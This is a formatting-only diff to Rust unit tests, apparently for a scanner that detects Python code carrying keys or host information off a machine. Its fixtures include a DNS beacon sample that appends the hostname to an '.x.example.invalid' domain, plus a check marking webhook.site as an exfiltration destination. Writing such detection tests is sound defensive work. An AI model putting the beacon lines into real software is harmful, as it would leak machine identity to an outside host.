@@ -318,7 +318,9 @@ fn a_key_sent_to_a_local_server_is_not_carried_off() {
     assert!(py(local).is_empty(), "{:?}", py(local));
     let public = local.replace("127.0.0.1", "203.0.113.7");
     assert_eq!(py(&public).len(), 1, "{:?}", py(&public));
-    assert!(!engine::is_exfil_destination("http://10.1.2.3/x http://192.168.0.9"));
+    assert!(!engine::is_exfil_destination(
+        "http://10.1.2.3/x http://192.168.0.9"
+    ));
     assert!(engine::is_exfil_destination("https://webhook.site/abc"));
 }
 
@@ -327,7 +329,8 @@ fn resolving_the_machines_own_name_is_not_a_beacon() {
     // A cluster library finds its own address; nothing is joined to the name.
     let own = "import os, socket\ninfo = socket.getaddrinfo(socket.gethostname(), 0)\nhost = os.getenv('HOSTNAME')\nip = socket.gethostbyname(host)\n";
     assert!(py(own).is_empty(), "{:?}", py(own));
-    let beacon = "import socket\nsocket.gethostbyname(socket.gethostname() + '.x.example.invalid')\n";
+    let beacon =
+        "import socket\nsocket.gethostbyname(socket.gethostname() + '.x.example.invalid')\n";
     assert_eq!(py(beacon).len(), 1, "{:?}", py(beacon));
     let built = "import socket\nname = f'{socket.gethostname()}.x.example.invalid'\nsocket.gethostbyname(name)\n";
     assert_eq!(py(built).len(), 1, "{:?}", py(built));
